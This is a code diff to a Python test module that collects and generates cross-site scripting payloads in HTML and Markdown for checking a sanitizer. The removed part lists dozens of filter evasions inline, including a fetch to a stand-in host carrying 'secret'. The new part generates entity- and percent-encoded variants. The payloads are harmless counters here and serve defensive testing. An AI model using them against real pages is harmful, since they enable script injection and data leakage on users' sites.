@@ -1,78 +1,57 @@
-"""Text that would run or fetch something in a careless page: known evasions of filters, in HTML and Markdown."""
+"""Text that would run or fetch something in a careless page: the known ways around filters, and Markdown's own.
+
+`payloads.json` has them by kind. Each of them names itself where it runs, as `ran(NUMBER)`, and in the address of what
+it fetches, so that many can stand in one page.
+"""
 
 from __future__ import annotations
 
-RUN = "window.ran=(window.ran||0)+1"
-ELSEWHERE = "http://elsewhere.invalid"
-PAYLOADS = (
-    f"<script>{RUN}</script>",
-    f"<SCRIPT SRC={ELSEWHERE}/xss.js></SCRIPT>",
-    f'<script src="{ELSEWHERE}/x.js"></script>',
-    f"<img src=x onerror={RUN}>",
-    f'<img src="{ELSEWHERE}/pixel.png">',
-    f'<IMG """><SCRIPT>{RUN}</SCRIPT>"\\>',
-    f"<IMG SRC=javascript:{RUN}>",
-    f'<IMG SRC="jav&#x09;ascript:{RUN};">',
-    f'<IMG SRC="jav\tascript:{RUN};">',
-    f'<IMG SRC=" &#14;  javascript:{RUN};">',
-    f"<IMG SRC=`javascript:{RUN}`>",
-    f"<IMG SRC=# onmouseover={RUN}>",
-    f'<IMG SRC=/ onerror="{RUN}"></img>',
-    f"<img/src=x/onerror={RUN}>",
-    f'<SCRIPT/XSS SRC="{ELSEWHERE}/xss.js"></SCRIPT>',
-    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
-    f"<<SCRIPT>{RUN};//\\<</SCRIPT>",
-    f'<IMG SRC="`<javascript:{RUN}>"`',
-    f'</TITLE><SCRIPT>{RUN};</SCRIPT><TITLE>"',
-    f'<INPUT TYPE="IMAGE" SRC="javascript:{RUN};">',
-    f'<BODY BACKGROUND="{ELSEWHERE}/b.png" ONLOAD={RUN}>',
-    f'<svg onload="{RUN}">',
-    f"<svg><script>{RUN}</script></svg>",
-    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
-    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">x</text></a></svg>',
-    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
-    f'<LINK REL="stylesheet" HREF="{ELSEWHERE}/x.css">',
-    f"<STYLE>@import'{ELSEWHERE}/x.css';</STYLE>",
-    f'<style>body{{background:url("{ELSEWHERE}/b.png")}}</style>',
-    f'<div style="background-image:url({ELSEWHERE}/b.png)">x</div>',
-    f'<META HTTP-EQUIV="refresh" CONTENT="0;url={ELSEWHERE}/">',
-    f'<IFRAME SRC="javascript:{RUN};"></IFRAME>',
-    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
-    f'<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">{RUN}',
-    f'<OBJECT TYPE="text/x-scriptlet" DATA="{ELSEWHERE}/x.html"></OBJECT>',
-    f'<BASE HREF="javascript:{RUN};//">',
-    f'<details open ontoggle="{RUN}">x</details>',
-    f"<video><source onerror={RUN}></video>",
-    f'<audio src="{ELSEWHERE}/a.mp3" autoplay onerror={RUN}>',
-    f"<input autofocus onfocus={RUN}>",
-    f"<marquee onstart={RUN}>x</marquee>",
-    f'<form action="{ELSEWHERE}"><button formaction="javascript:{RUN}">x</button></form>',
-    f"<template><img src=x onerror={RUN}></template>",
-    f'<a href="javascript:{RUN}">click</a>',
-    f"[click](javascript:{RUN})",
-    f"[click](JaVaScRiPt:{RUN})",
-    f"[click](&#106;avascript:{RUN})",
-    f"[click](<javascript:{RUN}>)",
-    f"[click](java\tscript:{RUN})",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    f'[click]({ELSEWHERE}/"onmouseover="{RUN})',
-    f"![x]({ELSEWHERE}/?q=secret)",
-    f'![x]({ELSEWHERE}/x.png"onerror="{RUN})',
-    f"![x](javascript:{RUN})",
-    f"![x][r]\n\n[r]: {ELSEWHERE}/ref.png",
-    f"[r]: javascript:{RUN}\n\n[r]",
-    f"<javascript:{RUN}>",
-    f'```"><img src=x onerror={RUN}>\ncode\n```',
-    f"```html\n<img src=x onerror={RUN}>\n<script>{RUN}</script>\n```",
-    f"```js\n</code></pre><script>{RUN}</script>\n```",
-    f"`<img src=x onerror={RUN}>`",
-    f"| <img src=x onerror={RUN}> | b |\n|--|--|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
-    f"# <svg onload={RUN}>",
-    f"- <img src=x onerror={RUN}>\n  > <script>{RUN}</script>",
-    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
-    f"<!--><img src=x onerror={RUN}>-->",
-    f"<![CDATA[<img src=x onerror={RUN}>]]>",
-    f"<x onclick={RUN} id=window.name>x</x>",
-    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
-    "\u202e<img src=x>\u2028<script>window.ran=1</script>",
-)  # fmt: skip
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+HOST = "elsewhere.invalid"
+KINDS = json.loads(Path(__file__).with_suffix(".json").read_text(encoding="utf-8"))
+HANDLERS = KINDS.pop("names of events").split()
+LESS_THAN = [
+    *("&lt", "&lt;", "&LT", "&LT;", "%3C", "%3c", "\\x3c", "\\x3C", "\\u003c", "\\u003C", "\uff1c", "\u2039"),
+    *(f"&#{'0' * zeros}60{end}" for zeros in range(6) for end in ("", ";")),
+    *(f"&#{x}{'0' * zeros}3{c}{end}" for x in "xX" for c in "cC" for zeros in range(6) for end in ("", ";")),
+]
+
+
+def decimal(text: str) -> str:
+    return "".join(f"&#{ord(sign)};" for sign in text)
+
+
+def padded(text: str) -> str:
+    return "".join(f"&#{ord(sign):07}" for sign in text)
+
+
+def hexadecimal(text: str) -> str:
+    return "".join(f"&#x{ord(sign):X}" for sign in text)
+
+
+MADE: tuple[Callable[[str], str], ...] = (
+    lambda run: f"<IMG SRC={decimal(f'javascript:{run}')}>",
+    lambda run: f"<IMG SRC={padded(f'javascript:{run}')}>",
+    lambda run: f"<IMG SRC={hexadecimal(f'javascript:{run}')}>",
+    lambda run: f'<img src=x onerror="{padded(run)}">',
+    lambda run: f"[x]({decimal('javascript:')}{run})",
+    lambda run: f'<a href="{hexadecimal("javascript:")}{run}">x</a>',
+    lambda run: "<b tabindex=1 " + " ".join(f"on{event}={run}" for event in HANDLERS) + ">x</b>",
+    lambda run: "\n".join(f"{sign}img src=x onerror={run}>" for sign in LESS_THAN),
+    lambda run: "\n".join(f"{sign}script>{run}{sign}/script>" for sign in LESS_THAN),
+    lambda run: f"%3Cscript%3E{run}%3C/script%3E",
+)
+
+
+def numbered() -> Iterator[str]:
+    plain = [payload for kind in KINDS.values() for payload in kind]
+    for number, payload in enumerate(plain):
+        yield payload.replace("RUN", f"ran({number})").replace("ELSEWHERE", f"http://{HOST}/{number}")
+    for number, made in enumerate(MADE, len(plain)):
+        yield made(f"ran({number})")
+
+
+PAYLOADS = tuple(numbered())
